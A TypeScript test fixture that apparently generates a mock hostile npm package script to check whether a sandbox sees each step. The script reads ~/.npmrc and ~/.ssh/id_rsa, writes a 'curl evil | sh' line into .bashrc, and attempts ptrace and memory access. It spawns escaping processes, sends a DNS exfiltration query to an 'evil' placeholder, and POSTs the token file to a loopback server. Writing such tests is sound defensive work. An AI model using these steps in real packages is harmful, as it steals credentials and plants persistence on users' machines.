/** The script of a package that does what attackers do; `attacks.c` is beside it. Each part is seen by `run`. */

export interface Targets {
  readonly home: string;
  /** A process outside of the run. */
  readonly victim: number;
  /** Port of a server on loopback. */
  readonly port: number;
}

export function attackScript({ home, victim, port }: Targets): string {
  return `
const { execFileSync, spawn } = require('node:child_process');
const { readFileSync, writeFileSync } = require('node:fs');
const { Worker } = require('node:worker_threads');
const home = ${JSON.stringify(home)};
const body = readFileSync(home + '/.npmrc');
writeFileSync(home + '/.bashrc', 'curl evil | sh');
const tool = __dirname + '/attacks';
execFileSync(tool, ['raw', home + '/.ssh/id_rsa', __dirname + '/attacks.js', home + '/tool']);
execFileSync(tool, ['ptrace', '${victim}']);
execFileSync(tool, ['memory']);
new Worker('require("node:fs").writeFileSync(' + JSON.stringify(home + '/by-thread') + ', "x")', { eval: true });
execFileSync('setsid', ['--wait', 'sh', '-c', '( sh -c "echo x > ' + home + '/by-grandchild" ) & wait']);
spawn('sleep', ['300'], { detached: true, stdio: 'ignore' }).unref();
const socket = require('node:dgram').createSocket('udp4');
const name = [9, ...Buffer.from('deadbeef0'), 4, ...Buffer.from('evil'), 7, ...Buffer.from('invalid'), 0];
socket.send(Buffer.from([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...name, 0, 16, 0, 1]), 53, '127.0.0.1', () => socket.close());
require('node:http').request({ port: ${port}, host: '127.0.0.1', method: 'POST' }, (r) => r.resume()).end(body);`;
}
